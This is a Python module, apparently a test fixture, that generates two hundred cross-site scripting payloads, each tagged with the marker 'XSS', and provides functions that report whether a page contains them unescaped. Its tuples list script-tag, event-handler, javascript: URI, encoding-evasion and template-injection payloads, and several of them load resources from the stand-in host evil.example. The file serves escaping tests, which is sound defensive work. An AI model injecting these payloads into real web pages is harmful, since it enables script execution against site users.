"""Two hundred texts that run a script where a page does not escape them; each holds the marker ``XSS``."""

from __future__ import annotations

from html import escape
from html import unescape
from itertools import product

HANDLERS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart")
ELEMENTS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "marquee", "iframe src=x")
BREAKS = ('"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "`", "</svg>", '"/>')
SCRIPTS = (
    "<script>XSS()</script>",
    "<SCRIPT>XSS()</SCRIPT>",
    "<scr<script>ipt>XSS()</scr</script>ipt>",
    "<script/XSS src=//evil.example></script>",
    "<script\n>XSS()</script\n>",
    "<svg><script>XSS()</script></svg>",
    "<svg><script xlink:href='data:,XSS()'></script></svg>",
    "<math><mtext><script>XSS()</script></mtext></math>",
    "<iframe srcdoc='<script>XSS()</script>'></iframe>",
    "<object data='data:text/html,<script>XSS()</script>'></object>",
    "<embed src='javascript:XSS()'>",
    "<base href='//evil.example/XSS'>",
    "<meta http-equiv=refresh content='0;url=javascript:XSS()'>",
    "<link rel=stylesheet href='//evil.example/XSS.css'>",
    "<style>@import '//evil.example/XSS';</style>",
    "<form action='javascript:XSS()'><button>",
    "<a href='javascript:XSS()'>XSS</a>",
    "<div hx-get='//evil.example/XSS' hx-trigger='load'></div>",
    "<div hx-on:load='XSS()'></div>",
    "<div data-hx-get='/XSS' data-hx-trigger='load'></div>",
    "<template><script>XSS()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=XSS()>'>",
    "<!--><img src=x onerror=XSS()>-->",
    "<![CDATA[<script>XSS()</script>]]>",
    "{{ XSS }}",
    "{{ 7*7 }}XSS",
    "{% raw %}XSS{% endraw %}",
    "${XSS}",
    "#{XSS}",
    "javascript:XSS()",
    "JaVaScRiPt:XSS()",
    "data:text/html,<script>XSS()</script>",
    "vbscript:XSS()",
    "\u2028<img src=x onerror=XSS()>",
    "\u202e<img src=x onerror=XSS()>",
    "\uff1cscript\uff1eXSS()\uff1c/script\uff1e",
    "&lt;script&gt;XSS()&lt;/script&gt;",
    "&#60;script&#62;XSS()&#60;/script&#62;",
    "%3Cscript%3EXSS()%3C/script%3E",
    "<img src=x onerror=XSS()",
    "<<img src=x onerror=XSS()>",
    "<img/src=x/onerror=XSS()>",
    "<img\tsrc=x\tonerror=XSS()>",
)
"""Those that are of no pattern."""

OF_ELEMENTS = tuple(f"<{element} {handler}=XSS()>" for element, handler in product(ELEMENTS, HANDLERS))
OF_BREAKS = tuple(
    f"{end}{rest}"
    for end, rest in product(
        BREAKS,
        (
            "<img src=x onerror=XSS()>",
            " onfocus=XSS() autofocus ",
            "<script>XSS()</script>",
            ";XSS();//",
            " hx-on:load=XSS() ",
            "<svg/onload=XSS()>",
            "<a href=javascript:XSS()>",
            " style=background:url(//evil.example/XSS) ",
        ),
    )
)
TEXTS = tuple(dict.fromkeys((*SCRIPTS, *OF_ELEMENTS, *OF_BREAKS)))[:200]


def raw_in(page: str) -> list[str]:
    """Return the texts that stand in *page* as they are, though a browser would act upon what is in them.

    Not those that are escaped already: that is how others of them are shown.
    """
    return [text for text in TEXTS if escape(text) != text == unescape(text) and text in page]


def is_shown_in(page: str, text: str) -> bool:
    """Tell whether *page* shows *text*, escaped."""
    return text in unescape(page)
